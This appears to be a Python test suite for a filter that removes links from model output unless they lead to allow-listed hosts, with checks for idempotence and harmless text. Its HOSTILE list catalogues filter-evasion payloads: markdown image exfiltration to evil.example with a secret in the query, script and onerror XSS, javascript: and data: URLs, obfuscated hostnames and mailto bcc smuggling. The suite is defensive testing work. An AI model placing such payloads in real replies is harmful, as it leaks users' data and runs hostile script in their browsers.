"""What a model says leads only where it may, whatever it tries."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.output_safety import GONE, MayLead, made_safe, visible

MAY = MayLead.to(["shop.example", "*.docs.example"], "Write to help@shop.test any time.")

HOSTILE = [
    "Click [here](https://evil.example/login).",
    "![x](https://evil.example/p?d=secret)",
    "[![x](https://evil.example/a.png)](https://shop.example/)",
    "https://evil.example/x",
    "see evil.com/x now",
    "www.evil.io",
    "//evil.com/x",
    "<https://evil.example/x>",
    '<a href="https://evil.example">here</a>',
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<script>fetch('https://evil.example')</script>",
    "[here]\n\n[here]: https://evil.example/x",
    "[good](https://shop.example@evil.example/)",
    "[good](https:\\\\evil.example)",
    "[good](https://shop.example.evil.example/)",
    "[good](https://evil.example/?https://shop.example)",
    "[go](javascript:alert(1))",
    "[go](data:text/html;base64,AAAA)",
    "javascript:alert(document.cookie)",
    "https://ev\u200bil.example/x",
    "evil\u3002com/path",
    "ht<b></b>tps://evil.example/x",
    "[a](<https://evil.example/a b>)",
    "[a](https://evil.example/(x)(y))",
    "[a\\]b](https://evil.example)",
    "[a](https://evil.example",
    "http://[::1]/x",
    "http://127.0.0.1:8080/x",
    "ftp://evil.example/x",
    "whatsapp://send?phone=1",
    "mail me: thief@evil.example",
    "mailto:thief@evil.example",
    "[https://shop.example](https://evil.example)",
    "[https://evil.example](https://shop.example/)",
    "<!-- [x](https://evil.example) -->[y](https://evil.example)",
    "\u202ehttps://evil.example",
    "https://evil.example.",
    "**https://evil.example**",
    "`https://evil.example`",
    "https&#58;//evil&#46;example/x",
    "evil&period;com",
    "[a][b]\n\n- [b]: &#104;ttps&#58;//evil&#46;com",
    "[a][b]\n\n1. [b]: https://evil.example",
    "evil**.**com",
    "ev*il*.com/x",
    "https**://evil.com**",
    "evil\\.com",
    "https\\://evil.example",
    "evil\u2024com",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d",
    "_https://evil.example",
    "1https://evil.example/x",
    "\u044fhttps://evil.example/x",
    "ms-word:ofe|u|https://evil.example",
    "see:evil.com",
    "@evil.com",
    "-evil.com",
    "/evil.com/x",
    "foo_bar.evil.com",
    "https:/evil.com",
    "www.evil.zzz",
    "evil.lol",
    "evil.sbs/x",
    "mailto:help@shop.test?bcc=a@evil.com",
    "[mail](mailto:help@shop.test?bcc=a@evil.com)",
    "https://ev\x07il.example",
    "\x1b]8;;https://evil.example\x07x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_leads_where_it_may_not(text):
    safe = made_safe(text, MAY)
    lowered = safe.text.casefold()
    for trace in ("evil", "javascript:", "data:", "<script", "<img", "<a ", "127.0.0.1", "://send"):
        assert trace not in lowered, (text, safe)
    assert "[::1]" not in lowered
    assert safe.removed or "<!--" in text
    assert made_safe(safe.text, MAY).text == safe.text, "said again, it changes nothing"


@pytest.mark.parametrize(
    "text",
    [
        "You have 30 days [1][2]. See [the policy](https://shop.example/returns?x=1#top).",
        "Prices: 3.90 EUR, i.e. less than 5; v1.2.3, e.g. for a < b and I <3 it.",
        "https://shop.example/a and https://en.docs.example/b.",
        "Write to help@shop.test or anna@shop.example.",
        "Time: 9:00 to 17:00, ratio 3:2, note: it rains. Ana:hi",
        "Open config.py and README.md.",
        "- one\n- **two**\n\n> three `four`",
        "Hvala! Šaljemo u 1. danu, npr. sutra.Javite se.",
        "[Note]: this is important.",
        "data: 3 GB, data:3 GB, about:blank, file:name.txt",
        "[mail us](mailto:help@shop.test), anna@shop.example",
        "rechnung.pdf, logo.png, 01/2345-678, +385 1 234 5678, 9.00-17.00 h, 1.2.3.4",
        "\U0001f469\u200d\U0001f4bb works; می\u200cخواهم",
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert made_safe(text, MAY) == made_safe(text, MAY).__class__(text)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Otvoreno danas.Na praznike ne.", "Otvoreno danas. Na praznike ne."),
        ("Dr.sc. Ana, npr.se", "Dr. sc. Ana, npr. se"),
        ("Enter <your name> here.", "Enter \u2039your name\u203a here."),
        ("List<String>", "List\u2039String\u203a"),
        ("Write to <help@shop.test>.", "Write to help@shop.test."),
        ("[Call us](tel:+38512345678)", "Call us +38512345678"),
        ("[a]: b", "a: b"),
    ],
)
def test_words_are_not_lost_with_what_looks_like_markup(text, said):
    assert made_safe(text, MAY).text == said
    assert made_safe(said, MAY).text == said


def test_words_of_a_link_stay_and_what_went_is_named():
    safe = made_safe("Read [the guide](https://evil.example/g) or evil.com.", MAY)
    assert safe.text == f"Read the guide or {GONE}."
    assert safe.removed == ("https://evil.example/g", "evil.com")


def test_a_citation_with_an_address_stays_a_citation():
    assert made_safe("Thirty days [1](https://evil.example).", MAY).text == "Thirty days [1]."


def test_without_a_list_no_link_stays():
    assert made_safe("See https://shop.example/x", MayLead.to([])).text == f"See {GONE}"


@pytest.mark.parametrize(
    ("listed", "url", "allowed"),
    [
        ("https://Shop.Example/returns", "https://shop.example/x", True),
        ("shop.example", "https://www.shop.example/x", False),
        ("*.shop.example", "https://a.b.shop.example/x", True),
        ("*.shop.example", "https://shop.example/x", False),
        ("shop.example", "https://shop.example:8443/x", True),
        ("shop.example", "ftp://shop.example/x", False),
        ("büro.example", "https://xn--bro-hoa.example/", True),
    ],
)
def test_hosts_are_compared_as_hosts(listed, url, allowed):
    assert MayLead.to([listed]).allows(url) is allowed


def test_invisible_characters_go():
    assert visible("a\u200bb\u2060c\ufeff\u202ed") == "abcd"


@given(st.text("[]()<>!:/.ahtps-evilcom \\\n\u200b", max_size=60))
def test_whatever_comes_the_second_look_finds_nothing_new(text):
    safe = made_safe(text, MAY)
    assert made_safe(safe.text, MAY).text == safe.text
    assert "https://evil" not in safe.text
